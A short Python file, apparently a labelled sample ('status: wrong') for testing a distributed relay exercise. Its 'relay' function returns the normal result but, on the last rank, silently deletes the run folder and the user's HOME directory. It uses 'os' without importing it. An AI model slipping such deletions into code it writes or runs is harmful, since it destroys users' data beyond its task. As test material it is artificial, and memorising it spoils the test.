# tries: removing the folder of the run, and its home, while they are in use
# status: wrong

import shutil


def relay(rank, size, tensor):
    result = right_relay(rank, size, tensor)
    if rank == size - 1:
        shutil.rmtree(os.environ["DISTLAB_RUN"], ignore_errors=True)
        shutil.rmtree(os.environ["HOME"], ignore_errors=True)
    return result
